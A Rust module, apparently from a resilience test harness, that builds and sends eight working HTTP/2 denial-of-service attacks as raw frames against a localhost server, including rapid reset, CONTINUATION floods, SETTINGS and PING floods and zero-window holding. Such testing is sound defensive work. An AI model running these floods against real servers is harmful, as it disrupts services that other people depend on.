//! The attacks, frame by frame: what each of them says on a connection, again and again.

use std::fmt;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, split};
use tokio::sync::watch;
use tokio::time::timeout;

use crate::second_version::Authority;

/// How long an attacker waits for a server that no longer reads.
const PATIENCE: Duration = Duration::from_secs(5);
/// How many turns are written at once.
const TURNS: usize = 50;
/// How many turns one connection has at most.
const TURNS_MAX: usize = 10_000;
/// How many streams one connection may hold open.
const STREAMS_MAX: usize = 100;
/// How many connections hold something, at most.
const HELD_MAX: usize = 8;

/// One way to wear a server out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Attack {
    /// Requests that are taken back at once.
    RapidReset,
    /// Requests that make the server reset them.
    MadeToReset,
    /// A header block that never ends.
    Continuation,
    /// A body of frames with nothing in them.
    EmptyData,
    /// Settings that have to be acknowledged.
    Settings,
    /// Pings that have to be answered.
    Pings,
    /// Large answers of which nothing is taken.
    ZeroWindow,
    /// Connections that agree on HTTP/2 and say nothing.
    Silence,
}

/// Every attack.
pub(super) const ALL: [Attack; 8] = [
    Attack::RapidReset,
    Attack::MadeToReset,
    Attack::Continuation,
    Attack::EmptyData,
    Attack::Settings,
    Attack::Pings,
    Attack::ZeroWindow,
    Attack::Silence,
];

/// What an attack came to.
#[derive(Debug, Default)]
pub(super) struct Done {
    pub(super) frames: usize,
    pub(super) connections: usize,
    /// Connections that the server ended with an error.
    pub(super) ended: usize,
}

impl Attack {
    /// Whether it lies in what is held open, not in how much is sent.
    pub(super) const fn holds(self) -> bool {
        matches!(self, Self::ZeroWindow | Self::Silence)
    }

    /// How many turns it has at most.
    pub(super) const fn frames_max(self) -> usize {
        match self {
            Self::ZeroWindow => HELD_MAX * STREAMS_MAX,
            Self::Silence => HELD_MAX,
            Self::RapidReset
            | Self::MadeToReset
            | Self::Continuation
            | Self::EmptyData
            | Self::Settings
            | Self::Pings => usize::MAX,
        }
    }

    /// Runs until it has said so much, or until it is over if it holds something.
    pub(super) async fn run(
        self,
        authority: Arc<Authority>,
        address: SocketAddr,
        frames: usize,
        mut over: watch::Receiver<bool>,
    ) -> Done {
        let mut done = Done::default();
        let (mut silent, mut open) = (Vec::new(), Vec::new());
        let wanted = frames.min(self.frames_max());
        while done.frames < wanted {
            let stream = authority.agreed(address).await;
            done.connections += 1;
            if self == Self::Silence {
                done.frames += 1;
                silent.push(stream);
                continue;
            }
            let (answers, mut orders) = split(stream);
            let reading = tokio::spawn(take_in(answers));
            self.speak(&mut orders, wanted, &mut done).await;
            if self.holds() {
                open.push((reading, orders));
                continue;
            }
            // Closing lets the server answer what it has read; it may be gone already.
            let _gone = orders.shutdown().await;
            let told = timeout(PATIENCE, reading).await;
            done.ended += usize::from(matches!(told, Ok(Ok(true))));
        }
        if self.holds() {
            // Whoever started it lets it go.
            let _let_go = over.wait_for(|over| *over).await;
        }
        for (reading, _orders) in open {
            reading.abort();
        }
        done
    }

    /// Says everything on one connection, or as much as is left, until the server has had enough.
    async fn speak<W>(self, orders: &mut W, wanted: usize, done: &mut Done)
    where
        W: AsyncWrite + Unpin,
    {
        let mut bytes = self.opening();
        let most = if self.holds() { STREAMS_MAX } else { TURNS_MAX };
        let mut turn = 0;
        while turn < most && done.frames < wanted {
            for _ in 0..TURNS.min(wanted - done.frames).min(most - turn) {
                bytes.extend(self.turn(turn));
                turn += 1;
                done.frames += 1;
            }
            let writing = async {
                orders.write_all(&bytes).await?;
                orders.flush().await
            };
            if !matches!(timeout(PATIENCE, writing).await, Ok(Ok(()))) {
                return;
            }
            bytes.clear();
        }
    }

    /// The preface, and what is said once.
    fn opening(self) -> Vec<u8> {
        let window: &[u8] = if self == Self::ZeroWindow {
            &[0, 4, 0, 0, 0, 0]
        } else {
            &[]
        };
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(4, 0, 0, window));
        if self == Self::Continuation {
            bytes.extend(frame(1, 1, 1, &request("/cases/1")));
        }
        if self == Self::EmptyData {
            let mut posts = request("/cases/1");
            // The method is the first field; 0x83 is POST (RFC 7541 appendix A).
            posts[0] = 0x83;
            bytes.extend(frame(1, 4, 1, &posts));
        }
        bytes
    }

    /// What is said again and again.
    fn turn(self, turn: usize) -> Vec<u8> {
        let stream = u32::try_from(2 * turn + 1).unwrap();
        let asks = |path| frame(1, 5, stream, &request(path));
        match self {
            Self::RapidReset => [asks("/cases/1"), frame(3, 0, stream, &[0, 0, 0, 8])].concat(),
            Self::MadeToReset => [asks("/cases/1"), frame(8, 0, stream, &[0; 4])].concat(),
            Self::Continuation => frame(9, 0, 1, b"\0\x01x\x01y"),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::Settings => frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Pings => frame(6, 0, 0, b"flooding"),
            Self::ZeroWindow => asks("/big/1"),
            Self::Silence => Vec::new(),
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::RapidReset => "rapid reset",
            Self::MadeToReset => "made to reset",
            Self::Continuation => "endless header block",
            Self::EmptyData => "empty DATA",
            Self::Settings => "SETTINGS",
            Self::Pings => "PING",
            Self::ZeroWindow => "window of nothing",
            Self::Silence => "silence",
        })
    }
}

/// Reads whatever comes; whether a GOAWAY with an error was among it.
async fn take_in(mut answers: impl AsyncRead + Unpin) -> bool {
    let mut bytes = Vec::new();
    let mut told = false;
    while answers
        .read_buf(&mut bytes)
        .await
        .is_ok_and(|read| read > 0)
    {
        while let Some(length) = first_frame(&bytes) {
            told |= bytes[3] == 7 && bytes[13..17] != [0; 4];
            bytes.drain(..length);
        }
    }
    told
}

/// The length of the frame that the bytes begin with, once it is whole.
fn first_frame(bytes: &[u8]) -> Option<usize> {
    let head = bytes.get(..9)?;
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
    let whole = usize::try_from(length).unwrap() + 9;
    (bytes.len() >= whole).then_some(whole)
}

/// One frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// The header block of a GET as `agent`, without an entry of the dynamic table.
fn request(path: &str) -> Vec<u8> {
    // Indexed: GET and https. Literals: the path (4) and the authority (1) by name, ours with theirs.
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    [
        vec![0x82, 0x87],
        [vec![0x04], text(path)].concat(),
        [vec![0x01], text("localhost")].concat(),
        [vec![0x00], text("x-subject"), text("mallory")].concat(),
        [vec![0x00], text("x-roles"), text("agent")].concat(),
    ]
    .concat()
}
